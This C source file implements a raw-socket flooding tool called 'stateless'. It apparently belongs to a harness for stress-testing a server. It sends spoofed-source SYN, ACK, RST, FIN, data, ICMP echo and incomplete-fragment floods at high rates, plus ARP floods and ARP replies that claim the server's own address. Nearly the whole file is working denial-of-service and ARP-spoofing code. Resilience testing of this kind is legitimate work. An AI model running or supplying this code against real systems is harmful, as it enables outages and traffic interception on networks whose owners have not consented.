/*
 * Floods of frames that belong to no connection, from sources that do not exist.
 *
 *   stateless DEVICE SERVER PORT MODE FIRST_SOURCE [rate=200000] [sources=16000]
 *
 * Runs until its input is closed. A line `look` makes it print what it has really done since the one before, as a JSON
 * object. Modes: those of `attacks`.
 */
#include "packet_socket.h"

enum {
  PROTOCOL_ICMP = 1,
  ECHO_BYTES = 56,
  DATA_BYTES = 64,
  FRAGMENT_BYTES = 64,
  MORE_FRAGMENTS = 0x2000,
  TIME_TO_LIVE = 64,
  FIRST_PORT = 1024,
  PORTS = 60000,
  ARP_REQUEST = 1,
  ARP_REPLY = 2,
};

static uint32_t first_source, sources;
static uint16_t server_port;

static uint32_t any_source(void) { return first_source + random32() % sources; }

static int write_segment(uint8_t *frame, uint8_t flags, uint32_t payload_bytes) {
  uint8_t *tcp = frame + IP_AT + IP_BYTES;
  uint32_t option_bytes = flags == SYN ? 4 : 0;
  address_frame(frame, ETHERTYPE_IP);
  store32(frame + IP_AT + IP_SOURCE, any_source());
  store32(frame + IP_AT + IP_TO, server_address);
  store16(tcp, (uint16_t)(FIRST_PORT + random32() % PORTS));
  store16(tcp + 2, server_port);
  store32(tcp + 4, random32());
  store32(tcp + 8, flags & ACK ? random32() : 0);
  tcp[12] = (uint8_t)((TCP_BYTES + option_bytes) << 2);
  tcp[13] = flags;
  store16(tcp + 14, 0xffff);
  store16(tcp + 18, 0);
  if (option_bytes > 0) memcpy(tcp + TCP_BYTES, "\2\4\x05\xb4", 4);
  memset(tcp + TCP_BYTES + option_bytes, 'x', payload_bytes);
  return finish_frame(frame, TCP_BYTES + option_bytes + payload_bytes, 0, 0);
}

static int write_syn(uint8_t *frame) { return write_segment(frame, SYN, 0); }
static int write_ack(uint8_t *frame) { return write_segment(frame, ACK, 0); }
static int write_rst(uint8_t *frame) { return write_segment(frame, RST, 0); }
static int write_fin(uint8_t *frame) { return write_segment(frame, FIN | ACK, 0); }
static int write_data(uint8_t *frame) { return write_segment(frame, PSH | ACK, DATA_BYTES); }

static int finish_packet(uint8_t *frame, uint32_t payload_bytes, int protocol, int fragment) {
  uint8_t *ip = frame + IP_AT;
  address_frame(frame, ETHERTYPE_IP);
  ip[0] = 0x45;
  ip[1] = 0;
  store16(ip + 2, (uint16_t)(IP_BYTES + payload_bytes));
  store16(ip + 4, (uint16_t)random32());
  store16(ip + 6, (uint16_t)fragment);
  ip[8] = TIME_TO_LIVE;
  ip[9] = (uint8_t)protocol;
  store16(ip + 10, 0);
  store32(ip + IP_SOURCE, any_source());
  store32(ip + IP_TO, server_address);
  store_sum(ip + 10, fold(sum_bytes(ip, IP_BYTES, 0)));
  return ETHERNET_BYTES + IP_BYTES + (int)payload_bytes;
}

static int write_echo(uint8_t *frame) {
  uint8_t *icmp = frame + IP_AT + IP_BYTES;
  memset(icmp, 0, 8 + ECHO_BYTES);
  icmp[0] = 8;
  store32(icmp + 4, random32());
  store_sum(icmp + 2, fold(sum_bytes(icmp, 8 + ECHO_BYTES, 0)));
  return finish_packet(frame, 8 + ECHO_BYTES, PROTOCOL_ICMP, 0);
}

/* First, middle and last pieces in turn, of packets that never become whole. */
static int write_fragment(uint8_t *frame) {
  static uint32_t turn;
  memset(frame + IP_AT + IP_BYTES, 'f', FRAGMENT_BYTES);
  uint32_t place = turn++ % 3;
  int field = place == 0 ? MORE_FRAGMENTS : place == 1 ? MORE_FRAGMENTS | 8 : 16;
  return finish_packet(frame, FRAGMENT_BYTES, PROTOCOL_TCP, field);
}

/* Questions of neighbours that do not exist, for addresses of others. */
static int write_arp_random(uint8_t *frame) {
  memset(frame, 0xff, 6);
  int bytes = write_arp(frame, ARP_REQUEST, any_source(), any_source());
  store32(frame + ETHERNET_BYTES + 10, random32());
  return bytes;
}

/*
 * For the server's own address: a question of a neighbour that does not exist, then somebody else who claims the address.
 * They go to the server alone: what a client's kernel believes of ARP is not the question.
 */
static int write_arp_ours(uint8_t *frame) {
  static uint32_t turn;
  int claims = turn++ & 1;
  memcpy(frame, server_mac, 6);
  int bytes = write_arp(frame, claims ? ARP_REPLY : ARP_REQUEST, claims ? server_address : any_source(), server_address);
  store32(frame + ETHERNET_BYTES + 10, random32());
  return bytes;
}

static const struct attack {
  const char *name;
  int (*write)(uint8_t *frame);
} attacks[] = {
  {"syn", write_syn},           {"ack", write_ack},
  {"rst", write_rst},           {"fin", write_fin},
  {"data", write_data},         {"echo", write_echo},
  {"arp-random", write_arp_random}, {"arp-ours", write_arp_ours},
  {"fragments", write_fragment},
};

int main(int argc, char **argv) {
  if (argc < 6) fail("usage", "stateless DEVICE SERVER PORT MODE FIRST_SOURCE [rate=N] [sources=N]");
  const struct attack *attack = NULL;
  for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++)
    if (strcmp(attacks[i].name, argv[4]) == 0) attack = &attacks[i];
  if (attack == NULL) fail(argv[4], "no such mode");
  server_address = address_option(argv[2]);
  server_port = (uint16_t)atoi(argv[3]);
  first_source = address_option(argv[5]);
  sources = (uint32_t)number_option(argc, argv, "sources", 16000);
  open_packet_socket(argv[1]);
  find_server(first_source);
  stop_listening();
  puts("up");
  fflush(stdout);
  struct pace pace;
  start_pace(&pace, number_option(argc, argv, "rate", 200000));
  for (;;) {
    int order = look_for_order();
    if (order == ORDER_END) return 0;
    if (order == ORDER_LOOK) {
      tell_frames();
      puts("}");
      fflush(stdout);
    }
    uint32_t allowed = take_allowance(&pace, 8 * BATCH);
    if (allowed == 0) pause_ns(PAUSE_NS);
    for (uint32_t i = 0; i < allowed; i++) queue_frame(attack->write(next_frame()));
    flush_frames();
  }
}
